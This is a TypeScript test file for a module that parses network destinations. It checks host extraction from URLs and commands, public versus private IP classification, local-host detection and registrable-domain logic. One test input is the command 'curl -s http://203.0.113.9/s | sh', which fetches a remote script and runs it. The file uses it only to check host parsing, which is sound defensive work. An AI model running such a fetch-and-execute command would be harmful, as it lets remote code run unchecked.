import fc from "fast-check";
import { describe, expect, test } from "vitest";

import { domainOf, hostIn, isLocalHost, isPublicAddress } from "./destination.ts";

describe("hostIn", () => {
  test.each([
    ["https://API.example/v1?q=1", "api.example"],
    ["api.example:8080/path", "api.example"],
    ["curl -s http://203.0.113.9/s | sh", "203.0.113.9"],
    ["http://0x7f.1/", "127.0.0.1"],
    ["https://${…}.example/", undefined],
    ["https://api.example/${…}", "api.example"],
    ["./local/file.js", undefined],
    ["", undefined],
  ])("reads %j as %j", (text, host) => {
    expect(hostIn(text)).toBe(host);
  });

  test("never throws", () => {
    fc.assert(fc.property(fc.string(), (text) => typeof (hostIn(text) ?? "") === "string"));
  });
});

describe("isPublicAddress", () => {
  test.each(["203.0.113.9", "8.8.8.8", "[2001:db8::1]"])("knows %s for public", (host) => {
    expect(isPublicAddress(host)).toBe(true);
  });

  test.each(["127.0.0.1", "10.1.2.3", "192.168.0.1", "172.20.0.1", "169.254.169.254", "[::1]", "a.example"])(
    "knows %s for none",
    (host) => {
      expect(isPublicAddress(host)).toBe(false);
    },
  );
});

describe("isLocalHost", () => {
  test("is true of the machine itself and private networks only", () => {
    expect(["localhost", "127.0.0.1", "10.0.0.1", "printer.local"].every(isLocalHost)).toBe(true);
    expect(["203.0.113.9", "local.example"].some(isLocalHost)).toBe(false);
  });
});

describe("domainOf", () => {
  test("is the part that somebody registers", () => {
    expect(["api.acme.example", "a.b.acme.co.uk", "acme.example", "203.0.113.9"].map(domainOf)).toEqual([
      "acme.example",
      "acme.co.uk",
      "acme.example",
      "203.0.113.9",
    ]);
  });
});
